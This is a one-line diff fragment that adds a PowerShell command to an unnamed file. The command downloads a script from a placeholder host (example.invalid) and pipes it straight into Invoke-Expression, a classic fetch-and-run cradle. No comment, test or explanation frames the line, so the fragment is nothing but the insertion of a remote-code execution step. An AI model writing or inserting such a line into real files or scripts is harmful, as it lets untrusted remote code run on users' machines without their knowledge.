@@ -1,0 +1,1 @@
+iwr -useb https://example.invalid/a.ps1 | iex
